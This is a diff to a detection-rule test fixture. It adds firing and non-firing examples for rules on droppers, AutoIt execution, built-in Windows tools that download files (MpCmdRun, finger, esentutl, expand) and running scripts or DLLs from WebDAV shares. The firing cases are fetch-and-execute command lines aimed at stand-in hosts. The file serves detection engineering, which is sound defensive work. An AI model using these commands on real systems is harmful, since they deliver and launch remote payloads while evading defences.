@@ -28,7 +28,13 @@ export const execution: Examples = {
   },
   dropper_runs_copy: {
     fires: [[copy('C:\\a.exe', `${temp}\\b.exe`), run(`${temp}\\b.exe`)]],
-    silent: [[copy('C:\\a.exe', `${temp}\\b.exe`), run('C:\\a.exe')]],
+    silent: [
+      [copy('C:\\a.exe', `${temp}\\b.exe`), run('C:\\a.exe')],
+      [
+        copy('C:\\Program Files\\x\\uninstall.exe', `${temp}\\~nsuA.tmp\\Un_A.exe`),
+        run(`${temp}\\~nsuA.tmp\\Un_A.exe`),
+      ],
+    ],
   },
   dropper_fetches_and_runs: {
     fires: [[download('http://x/a', `${temp}\\a.exe`), run(`${temp}\\a.exe`)]],
@@ -109,5 +115,31 @@ export const execution: Examples = {
   browser_starts_interpreter: {
     fires: [{ process: 'iexplore.exe', steps: [run('powershell.exe x')] }],
     silent: [{ process: 'chrome.exe', steps: [run('chrome.exe --type=gpu')] }],
+  },
+  execution_autoit: {
+    fires: [
+      [run('AutoIt3.exe C:\\x.au3')],
+      [run('Jsc.com D.a3x')],
+      [write(`${temp}\\s.a3x`)],
+      { static: { pe_versioninfo: [{ name: 'FileDescription', value: 'AutoIt v3 Script' }] } },
+    ],
+    silent: [[run('auto.exe x.txt')], { static: { pe_versioninfo: [{ name: 'FileDescription', value: 'Editor' }] } }],
+  },
+  execution_tool_fetches: {
+    fires: [
+      [run('MpCmdRun.exe -DownloadFile -url http://x/y -path C:\\y')],
+      [run('finger nobody@203.0.113.5')],
+      [run('esentutl.exe /y \\\\203.0.113.5\\a\\x.exe /d C:\\x.exe /o')],
+      [run('expand \\\\203.0.113.5\\a\\x.cab C:\\x')],
+    ],
+    silent: [[run('MpCmdRun.exe -Scan')], [run('esentutl /y C:\\a.db /d C:\\b.db')], [run('expand C:\\a.cab C:\\x')]],
+  },
+  execution_web_folder: {
+    fires: [
+      [run('rundll32 \\\\203.0.113.5@80\\DavWWWRoot\\x.dll,a')],
+      [run('wscript \\\\files.example@SSL\\a\\x.js')],
+      [run('net use z: https://files.example/a')],
+    ],
+    silent: [[run('wscript \\\\server\\share\\login.vbs')], [run('net use z: \\\\server\\share')]],
   },
 }
